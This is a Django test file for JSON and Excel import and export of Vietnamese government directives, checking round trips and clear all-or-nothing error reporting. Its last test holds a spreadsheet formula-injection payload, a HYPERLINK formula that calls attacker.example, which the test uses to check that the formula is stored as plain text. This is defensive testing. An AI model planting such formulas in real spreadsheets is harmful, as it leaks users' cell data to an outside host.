"""Export and import of whole directives: round trips, and bad files that change nothing."""

import copy
import json

import pytest
from django.core.management import CommandError, call_command
from django.test import TestCase

from agencies.services import agency_registry_load
from directives.exchange import ImportProblems, export_directives
from directives.models import Assignment, Directive, Task
from directives.services.imports import directives_import
from directives.spreadsheet import payload_from_workbook, workbook_from_payload
from directives.status import Lifecycle


def _counts():
    return (Directive.objects.count(), Task.objects.count(), Assignment.objects.count())


class ExchangeTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        call_command("load_seed", verbosity=0)
        cls.seed_export = export_directives(Directive.objects.order_by("slug"))

    def _wipe_directives(self):
        # Raw deletes: an empty database without paying for a history row per deleted row.
        from directives.models import Indicator, ReportingRule, Section

        for queryset in (
            Indicator.tasks.through.objects.all(),
            Indicator.objects.all(),
            Assignment.objects.all(),
            Task.objects.all(),
            Section.objects.all(),
            ReportingRule.objects.all(),
            Directive.objects.all(),
        ):
            queryset._raw_delete(queryset.db)
        assert _counts() == (0, 0, 0)

    def test_json_round_trips_through_an_empty_database(self):
        # given: the seed directives exported
        exported = json.loads(json.dumps(self.seed_export, ensure_ascii=False))
        # when: the database loses them and the export is imported back
        self._wipe_directives()
        directives_import(payload=exported, actor=None)
        # then: exporting again gives the same JSON
        assert export_directives(Directive.objects.order_by("slug")) == exported

    def test_excel_round_trips_through_an_empty_database(self):
        workbook = workbook_from_payload(self.seed_export)
        self._wipe_directives()
        directives_import(payload=payload_from_workbook(workbook), actor=None)
        assert export_directives(Directive.objects.order_by("slug")) == self.seed_export

    def test_excel_has_the_columns_a_vietnamese_office_expects(self):
        import io

        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(workbook_from_payload(self.seed_export)))
        sheet = book["46-KH-UBND"]
        header = [cell.value for cell in sheet[11]][:6]
        assert header == ["STT", "Nội dung nhiệm vụ", "Cơ quan chủ trì", "Cơ quan phối hợp", "Thời hạn", "Ghi chú"]
        assert book["_du_lieu"].sheet_state == "hidden"

    def test_broken_file_changes_nothing_and_names_the_row_and_the_problem(self):
        # given: a file whose 3rd directive has a bad date on one task and an unknown agency on another
        payload = copy.deepcopy(self.seed_export)
        payload["directives"][0]["title"] = "Đã sửa — không được lưu"
        broken = payload["directives"][2]
        broken["tasks"][4]["due"] = "2022-13-45"
        broken["tasks"][4]["deadline_kind"] = "date"
        broken["tasks"][7]["lead"] = ["Sở Kế hoạch Đầu tư"]
        before = (_counts(), Directive.objects.get(slug=payload["directives"][0]["slug"]).title)
        # when
        with pytest.raises(ImportProblems) as raised:
            directives_import(payload=payload, actor=None)
        # then: nothing changed, and each problem names where and what
        assert (_counts(), Directive.objects.get(slug=payload["directives"][0]["slug"]).title) == before
        text = "\n".join(raised.value.problems)
        assert f"nhiệm vụ dòng 5 (số hiệu {broken['tasks'][4]['ref']})" in text and "2022-13-45" in text
        assert "“Sở Kế hoạch Đầu tư” không có trong danh mục" in text
        assert "Có phải: Sở Kế hoạch và Đầu tư" in text

    def test_inconsistent_file_is_refused_whole(self):
        payload = copy.deepcopy(self.seed_export)
        payload["directives"][1]["tasks"][0]["section"] = "XIV.9"
        payload["directives"][1]["tasks"].append(dict(payload["directives"][1]["tasks"][1]))  # duplicate ref
        with pytest.raises(ImportProblems) as raised:
            directives_import(payload=payload, actor=None)
        text = "\n".join(raised.value.problems)
        assert "mục “XIV.9” không có trong văn bản" in text
        assert "số hiệu nhiệm vụ bị trùng" in text

    def test_broken_workbook_cell_is_named(self):
        import io

        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(workbook_from_payload(self.seed_export)))
        sheet = book["46-KH-UBND"]
        row = next(r for r in range(12, sheet.max_row) if sheet.cell(row=r, column=11).value == "Nhiệm vụ" and r > 14)
        sheet.cell(row=row, column=9, value="ngày mai")
        buffer = io.BytesIO()
        book.save(buffer)
        with pytest.raises(ImportProblems) as raised:
            payload_from_workbook(buffer.getvalue())
        assert f"Trang tính “46-KH-UBND”, dòng {row}" in raised.value.problems[0]
        assert "“ngày mai”" in raised.value.problems[0]

    def test_not_a_workbook_is_a_clear_error(self):
        with pytest.raises(ImportProblems) as raised:
            payload_from_workbook(b"not an excel file")
        assert "không phải bảng tính Excel" in raised.value.problems[0]

    def test_reimport_keeps_work_in_progress_and_withdraws_instead_of_deleting(self):
        # given: an agency has started work on a task
        payload = copy.deepcopy(self.seed_export)
        directive = payload["directives"][0]
        task = directive["tasks"][0]
        started = Assignment.objects.filter(task__directive__slug=directive["slug"], task__ref=task["ref"]).first()
        started.lifecycle = Lifecycle.IN_PROGRESS
        started.save()
        # when: the plan is re-imported without that agency on the task
        name = started.via_group.name if started.via_group_id else started.agency.name
        for key in ("lead", "coordinating"):
            task[key] = [n for n in task[key] if n != name]
        directives_import(payload=payload, actor=None)
        # then: the assignment remains, withdrawn, with its progress
        started.refresh_from_db()
        assert started.withdrawn_on is not None and started.lifecycle == Lifecycle.IN_PROGRESS

    def test_import_command_reports_problems_and_exits_nonzero(self):
        import tempfile

        with tempfile.NamedTemporaryFile("w", suffix=".json", delete=False, encoding="utf-8") as handle:
            handle.write('{"directives": [ {"slug": "x"')
        with pytest.raises(CommandError) as raised:
            call_command("import_directives", handle.name)
        assert "JSON không đọc được" in str(raised.value)


def test_registry_load_is_idempotent(db):
    data = {
        "agencies": [
            {"code": "A", "name": "Sở A", "kind": "so_ban_nganh", "aliases": ["SA"]},
            {"code": "B", "name": "Sở B", "kind": "so_ban_nganh", "closed_on": "2025-03-01", "successor": "Sở A"},
        ],
        "groups": [{"name": "Nhóm", "aliases": [], "members": ["Sở A", "Sở B"]}],
    }
    first = agency_registry_load(data=data)
    second = agency_registry_load(data=data)
    assert first["created"] == 3
    assert second == {"created": 0, "updated": 0}


def test_a_formula_typed_in_a_task_round_trips_through_excel_as_text():
    """Issue 12.2: the exchange workbook writes text as text, so a task whose content starts
    with "=" is neither run by Excel nor changed on the way back."""
    import io

    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"Xem")'
    payload = {
        "format": "langson-directives",
        "version": 1,
        "directives": [
            {
                "slug": "kh-cong-thuc",
                "kind": "ke_hoach",
                "title": "Kế hoạch thử",
                "tasks": [{"ref": "1", "content": formula, "deadline_kind": "none"}],
            }
        ],
    }
    data = workbook_from_payload(payload)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
    assert cells and all(c.data_type == "s" for c in cells)
    assert payload_from_workbook(data)["directives"][0]["tasks"][0]["content"] == formula
